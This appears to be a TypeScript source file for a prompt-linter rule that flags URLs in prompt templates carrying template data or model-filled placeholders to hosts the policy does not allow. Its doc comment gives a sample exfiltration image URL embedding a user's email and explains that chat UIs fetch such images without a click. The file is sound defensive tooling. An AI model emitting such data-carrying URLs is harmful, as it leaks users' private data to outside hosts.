import type { PromptDocument, Span } from '../../types';
import { findFences } from '../../formats/delimiters';
import { isDocumentationDomain } from '../../detectors/placeholders';
import { anyIn, firstAtOrAfter } from '../../trust/flow';
import { matchingGlob } from '../../trust/trust';
import { EXPRESSION_CHAR, findUrls, type UrlHit } from '../../trust/urls';
import { defineRule } from '../rule';

/**
 * A URL in prompt text that carries data to a host the policy does not allow: part of the URL is a template
 * expression (`![](https://t.example.net/p.png?u={{user.email}})`), or a query parameter holds a placeholder
 * for the model to fill (`?d=[SUMMARY]`). A Markdown or HTML image is fetched by a chat UI as soon as the
 * answer renders, with no click: the classic exfiltration channel. Links and bare URLs need a click or a
 * tool call, and are reported too.
 *
 * Not reported: hosts matching `urls.allowed_hosts`, documentation domains (`example.com`, `*.test`, …) and
 * `localhost`, URLs in fenced or inline code (samples, not instructions). In examples and test data the
 * finding is `info`.
 */
export default defineRule({
  meta: {
    id: 'injection/exfil-url',
    description: 'A URL in prompt text is built from template data or placeholders and points to a host the policy does not allow.',
    defaultSeverity: 'warning',
    fixable: false,
    formats: ['prompty', 'dotprompt', 'github-prompt', 'copilot', 'promptl', 'template'],
  },
  check({ document, policy, report }) {
    const allowed = policy.urls?.allowed_hosts ?? [];
    // Every URL findUrls reads has `://` in the message's own text (scanText only replaces expression
    // characters): messages without one are skipped before their scan text is built.
    const separators = urlSeparators(document.text);
    for (const m of document.messages) {
      const content = m.content;
      if (!anyIn(separators, content.offset, content.endOffset)) continue;
      const scan = scanText(document, content);
      const fences = findFences(document.text, content.offset, content.endOffset);
      for (const hit of findUrls(scan, content.offset)) {
        if (hit.expressions.length === 0 && hit.placeholders.length === 0) continue;
        if (fences.some((f) => f.offset <= hit.span.offset && hit.span.offset < f.endOffset)) continue;
        if (inInlineCode(scan, hit.span.offset - content.offset)) continue;
        if (!hit.hostDynamic && (safeHost(hit.host) || matchingGlob(allowed, hit.host) !== undefined)) continue;
        const names = variablesIn(document, hit.expressions);
        report({
          span: hit.span,
          ...(m.kind !== 'instructions' ? { severity: 'info' as const } : {}),
          message: messageFor(hit, names, allowed.length > 0),
          evidence: { host: hit.host || '(template expression)', kind: hit.kind, variables: names, placeholders: hit.placeholders },
        });
      }
    }
  },
});

function messageFor(hit: UrlHit, names: string[], hasAllowList: boolean): string {
  const what = { image: 'Markdown image', 'html-image': 'HTML image', link: 'Link', bare: 'URL' }[hit.kind];
  const where = hit.hostDynamic ? 'a host chosen by a template expression' : `'${hit.host}'`;
  const data = [
    ...(names.length ? [`template data (${names.map((n) => `'${n}'`).join(', ')})`] : hit.expressions.length ? ['template data'] : []),
    ...(hit.placeholders.length ? [`a placeholder for the model to fill (${hit.placeholders.slice(0, 2).join(', ')})`] : []),
  ].join(' and ');
  const channel =
    hit.kind === 'image' || hit.kind === 'html-image'
      ? 'a chat UI fetches it as soon as the answer renders, sending that data to the host'
      : 'opening it sends that data to the host';
  const advice = hit.hostDynamic
    ? 'Build URLs from fixed hosts only.'
    : `If '${hit.host}' is yours, add it to urls.allowed_hosts${hasAllowList ? '' : ' in the policy'}; otherwise remove the data from the URL.`;
  return `${what} to ${where} carries ${data}: ${channel}. ${advice}`;
}

/** Offsets of every `://` in `text`. */
function urlSeparators(text: string): number[] {
  const out: number[] = [];
  for (let at = text.indexOf('://'); at >= 0; at = text.indexOf('://', at + 1)) out.push(at);
  return out;
}

/** Documentation domains and loopback names never receive anyone's data. */
function safeHost(host: string): boolean {
  return host === 'localhost' || host === '127.0.0.1' || host === '[::1]' || isDocumentationDomain(host);
}

/** The content with every expression's characters replaced by EXPRESSION_CHAR (comments by blanks). */
function scanText(doc: PromptDocument, span: Span): string {
  const exprs = doc.expressions;
  const parts: string[] = [];
  let p = span.offset;
  for (let k = firstAtOrAfter(exprs, span.offset); k < exprs.length && exprs[k].span.offset < span.endOffset; k++) {
    const e = exprs[k];
    if (e.span.offset < p) continue;
    const end = Math.min(e.span.endOffset, span.endOffset);
    parts.push(doc.text.slice(p, e.span.offset));
    const fill = e.kind === 'comment' ? ' ' : EXPRESSION_CHAR;
    const inner = doc.text.slice(e.span.offset, end);
    parts.push(inner.includes('\n') || inner.includes('\r') ? inner.replace(NOT_LINE_BREAK, fill) : fill.repeat(inner.length));
    p = end;
  }
  parts.push(doc.text.slice(p, span.endOffset));
  return parts.join('');
}

/** An odd number of backticks before `at` on its line: inside inline code. Long lines are not searched. */
function inInlineCode(scan: string, at: number): boolean {
  let ticks = 0;
  for (let i = at - 1, n = 0; i >= 0 && n < 4000; i--, n++) {
    const c = scan[i];
    if (c === '\n') return ticks % 2 === 1;
    if (c === '`') ticks++;
  }
  return ticks % 2 === 1;
}

/** The variables read by the expressions inside the given spans. */
function variablesIn(doc: PromptDocument, spans: readonly Span[]): string[] {
  const out = new Set<string>();
  for (const s of spans) {
    for (let k = firstAtOrAfter(doc.expressions, s.offset); k < doc.expressions.length && doc.expressions[k].span.offset < s.endOffset; k++) {
      const e = doc.expressions[k];
      if (e.variable) out.add(e.path ?? e.variable);
    }
  }
  return [...out];
}

const NOT_LINE_BREAK = /[^\r\n]/g;

/** The regular expressions of this rule, for the ReDoS test (its scanners live in shared/src/trust/). */
export const PATTERNS: readonly RegExp[] = [NOT_LINE_BREAK];
